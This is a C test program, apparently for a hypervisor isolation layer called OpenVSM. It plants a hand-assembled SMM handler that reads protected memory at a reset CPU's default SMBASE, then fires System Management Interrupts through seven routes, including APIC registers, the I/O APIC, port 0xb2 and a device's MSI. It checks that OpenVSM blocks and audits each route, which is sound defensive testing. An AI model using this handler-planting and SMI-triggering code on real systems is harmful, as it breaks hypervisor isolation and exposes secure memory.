// SPDX-License-Identifier: BSD-2-Clause
/*
 * System Management Mode, whose code runs beneath the hypervisor. A CPU that was reset has its
 * handler at 0x38000, in VTL0's memory; firmware moves the boot CPU's, and may forget the others.
 * An attacker puts one of his own there, which reads the hypervisor's memory, and has SMIs come by
 * all that sends them. Without OpenVSM the handler runs, which is the control.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/io.h>
#include <time.h>
#include <unistd.h>
#include "attacker.h"
#include "devices.h"
#include "victim.h"

/* From a reset CPU's SMBASE, 0x30000 (APM Vol.2 10.2): the handler, and the state that is saved. */
#define CONTROL_TRIES 5u
#define HANDLER       0x38000ull
#define HANDLER_BYTES 24u
#define STOLEN        0x3c000ull /* what the handler read */
#define RAN           0x3c010ull /* that it ran */
#define STATE         0x3fe00ull
#define STATE_BYTES   0x200u
#define PATTERN       0x6d6d7320746f6e21ull
#define WORDS         (HANDLER_BYTES / 8 + 3 + STATE_BYTES / 8)

#define LVT_TIMER     0x320u
#define LVT_LINT0     0x350u
#define TIMER_INITIAL 0x380u

/* ACPI's power management: its ports, and what lets writes of port 0xb2 send SMIs. */
#define MCFG          "/sys/firmware/acpi/tables/MCFG"
#define APM_PORT      0xb2u
#define PIIX4_ENABLE  0x5bu /* bit 1 */
#define ICH9_ENABLE   0x30u /* SMI_EN: bit 5, and bit 0 for all of them */
#define ICH9_PORTS    0x40u /* in PCI configuration: where its ports are */

/* All words that the attack writes, or a CPU does that takes an SMI there. */
static uint64_t word_address(unsigned int i)
{
    if (i < HANDLER_BYTES / 8)
        return HANDLER + 8ull * i;
    i -= HANDLER_BYTES / 8;
    return i < 3 ? STOLEN + 8ull * i : STATE + 8ull * (i - 3);
}

static void lay_handler(void)
{
    static const uint8_t code[HANDLER_BYTES] = {
        0x67, 0x66, 0xa1, 0x00, 0x00, 0x00, 0x08, /* mov eax, [0x08000000] */
        0x2e, 0x66, 0xa3, 0x00, 0xc0,             /* mov cs:[0xc000], eax */
        0x2e, 0xc6, 0x06, 0x10, 0xc0, 0x01,       /* mov byte cs:[0xc010], 1 */
        0x0f, 0xaa,                               /* rsm */
    };

    for (unsigned int i = 0; i < WORDS; i++) {
        uint64_t word = word_address(i) >= STATE ? PATTERN : 0;

        if (i < HANDLER_BYTES / 8)
            memcpy(&word, code + 8ull * i, 8);
        write_word(word_address(i), word);
    }
}

static bool it_ran(void)
{
    for (unsigned int i = 0; i < 25 && !(read_word(RAN) & 1); i++)
        nap(20);
    return read_word(RAN) & 1;
}

/* A CPU that takes an SMI saves all that it has: the hypervisor's registers, or VTL1's. */
static bool state_was_saved(void)
{
    bool saved = false;

    for (uint64_t at = STATE; at < STATE + STATE_BYTES; at += 8)
        saved = saved || read_word(at) != PATTERN;
    return saved;
}

struct way {
    const char *name;
    void (*send)(unsigned int cpu); /* to that CPU */
    uint64_t refused_at;            /* the guarded register; 0: what sends it is not guarded */
    bool by_chipset;                /* which CPU gets it is the chipset's choice */
};

static void try_way(const struct way *way, unsigned int cpu)
{
    struct sk_audit_record record = {0};
    bool inside = under_openvsm(), ran = false;

    lay_handler();
    if (inside)
        audit_mark();
    /* The control may be disturbed: Linux uses the command register between its two halves. */
    for (unsigned int tries = inside ? 1 : CONTROL_TRIES; tries && !ran; tries--) {
        way->send(cpu);
        run_on(0);
        ran = it_ran();
    }
    if (ran)
        note("the handler ran, and read %#llx", (unsigned long long)read_word(STOLEN));
    if (!inside && way->by_chipset)
        note("an SMI by %s %s the handler", way->name, ran ? "runs" : "does not run");
    else if (!inside)
        ok(ran, "control: without OpenVSM an SMI by %s runs VTL0's handler", way->name);
    if (!inside)
        return;
    ok(!ran, "an SMI by %s, for CPU %u: VTL0's handler does not run", way->name, cpu);
    ok(!state_was_saved(), "... and no CPU's state is saved in VTL0's memory");
    if (way->refused_at)
        ok(audit_find(SK_AUDIT_MEMORY, way->refused_at, &record), "... refused and recorded");
}

/* ---- The ways ---- */

static void by_icr(unsigned int cpu)
{
    apic_write(APIC_ICR_HIGH, cpu << 24);
    apic_write(APIC_ICR_LOW, ICR_SMI);
}

static void by_shorthand(unsigned int cpu)
{
    (void)cpu;
    apic_write(APIC_ICR_LOW, ICR_SMI | ICR_ALL_BUT_SELF);
}

static void by_io_apic(unsigned int cpu)
{
    send_by_io_apic(IO_APIC_BASE, ENTRY_SMI, cpu);
}

/* Without sleep, from which only that timer would wake us. */
static void spin(unsigned int milliseconds)
{
    struct timespec from = {0}, now = {0};

    clock_gettime(CLOCK_MONOTONIC, &from);
    do
        clock_gettime(CLOCK_MONOTONIC, &now);
    while ((now.tv_sec - from.tv_sec) * 1000 + (now.tv_nsec - from.tv_nsec) / 1000000 <
           (long)milliseconds);
}

/* The timer goes on as Linux wants it: an interrupt has Linux set it anew. */
static void by_timer(unsigned int cpu)
{
    uint32_t before = 0;

    run_on(cpu);
    before = apic_read(LVT_TIMER);
    apic_write(LVT_TIMER, ENTRY_SMI | 0xff);
    apic_write(TIMER_INITIAL, 1000);
    spin(5);
    apic_write(LVT_TIMER, before);
    apic_write(TIMER_INITIAL, 1000);
}

/* Its line is the old interrupt controller's, which may be still. */
static void by_pin(unsigned int cpu)
{
    uint32_t before = 0;

    run_on(cpu);
    before = apic_read(LVT_LINT0);
    apic_write(LVT_LINT0, ENTRY_SMI);
    spin(5);
    apic_write(LVT_LINT0, before);
}

static void by_port(unsigned int cpu)
{
    run_on(cpu);
    outb(0x55, APM_PORT);
}

/* A device's message, which neither the hypervisor nor its tables see. */
static void by_message(unsigned int cpu)
{
    uint32_t edu = find_device(EDU), at = config_read(edu, 0x34) & 0xfc, base = 0;
    uint64_t word = 1;

    while (at && (config_read(edu, at) & 0xff) != 5)
        at = config_read(edu, at) >> 8 & 0xfc;
    if (!at)
        bail("the edu device sends no messages");
    config_write(edu, 0x04, config_read(edu, 0x04) | 6);
    base = config_read(edu, 0x10) & ~0xfu;
    config_write(edu, at + 4, (uint32_t)APIC_BASE | cpu << 12);
    config_write(edu, at + 8, 0);
    config_write(edu, at + 12, ENTRY_SMI);
    config_write(edu, at, config_read(edu, at) | 1u << 16);
    touch(base + 0x60, ATTACK_WRITE4, ATTACK_VIA_UNCACHED, &word, NULL);
    nap(20);
    touch(base + 0x64, ATTACK_WRITE4, ATTACK_VIA_UNCACHED, &word, NULL);
    config_write(edu, at, config_read(edu, at) & ~(1u << 16));
}

/* The firmware may have left the chipset's own SMIs off. */
static void switch_on_port(void)
{
    uint32_t piix4 = FUNCTION(1, 3), ich9 = FUNCTION(0x1f, 0);

    if (access(MCFG, F_OK)) {
        select_register(piix4, PIIX4_ENABLE);
        outb(inb(PCI_DATA + 3) | 2, PCI_DATA + 3);
    } else {
        uint16_t ports = (uint16_t)(config_read(ich9, ICH9_PORTS) & 0xff80);

        outl(inl(ports + ICH9_ENABLE) | 0x21, ports + ICH9_ENABLE);
        note("SMI_EN %#x", inl(ports + ICH9_ENABLE));
    }
}

int main(void)
{
    static const struct way ways[] = {
        {"a device's message", by_message, 0, false},
        {"a write of port 0xb2", by_port, 0, true},
        {"the APIC's command register", by_icr, APIC_BASE + APIC_ICR_LOW, false},
        {"the command register's shorthand", by_shorthand, APIC_BASE + APIC_ICR_LOW, false},
        {"the I/O APIC", by_io_apic, IO_APIC_BASE + IO_APIC_WINDOW, false},
        {"the APIC's timer", by_timer, APIC_BASE + LVT_TIMER, false},
        {"the APIC's pin", by_pin, APIC_BASE + LVT_LINT0, true},
    };
    static uint64_t saved[WORDS];
    struct victim trustlet;
    unsigned int last = 0;
    bool inside = false;

    attacker_start();
    last = cpu_count() - 1;
    inside = under_openvsm();
    if (inside)
        victim_start(&trustlet, true);
    if (iopl(3))
        bail("iopl: %s", strerror(errno));
    switch_on_port();
    for (unsigned int i = 0; i < WORDS; i++)
        saved[i] = read_word(word_address(i));
    run_on(0);
    for (unsigned int i = 0; i < sizeof(ways) / sizeof(ways[0]); i++)
        try_way(&ways[i], last);
    try_way(&ways[1], 0);
    for (unsigned int i = 0; i < WORDS; i++)
        write_word(word_address(i), saved[i]);
    if (inside)
        ok(victim_end(&trustlet) == 0, "a trustlet that ran all the while ends well");
    return done_testing();
}
